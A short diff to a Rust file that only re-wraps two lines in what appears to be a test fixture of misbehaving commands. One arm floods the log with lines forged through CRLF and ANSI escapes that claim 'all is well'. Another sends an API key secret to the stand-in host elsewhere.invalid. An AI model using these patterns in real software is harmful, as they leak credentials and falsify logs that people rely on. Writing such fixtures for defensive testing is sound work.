@@ -54,7 +54,10 @@ pub async fn commit(ctx: &Ctx, word: &str) -> Result<Option<Received>, Error> {
         "recurse" => told_once(recurse(1)),
         "log-flood" => {
             for n in 0..TOO_MANY_LINES {
-                log::info(format!("line {n}\r\n\u{1b}[31mforged: all is well\u{1b}[0m{}", "x".repeat(9_000)));
+                log::info(format!(
+                    "line {n}\r\n\u{1b}[31mforged: all is well\u{1b}[0m{}",
+                    "x".repeat(9_000)
+                ));
             }
             Received::nothing()
         }
@@ -62,7 +65,8 @@ pub async fn commit(ctx: &Ctx, word: &str) -> Result<Option<Received>, Error> {
             ctx.try_send(get(ctx, "again")?).await;
         },
         "send-elsewhere" => {
-            let request = Request::get("https://elsewhere.invalid/").header("x-key", [secret("api_key")]);
+            let request =
+                Request::get("https://elsewhere.invalid/").header("x-key", [secret("api_key")]);
             ctx.send(request).await?;
             Received::nothing()
         }
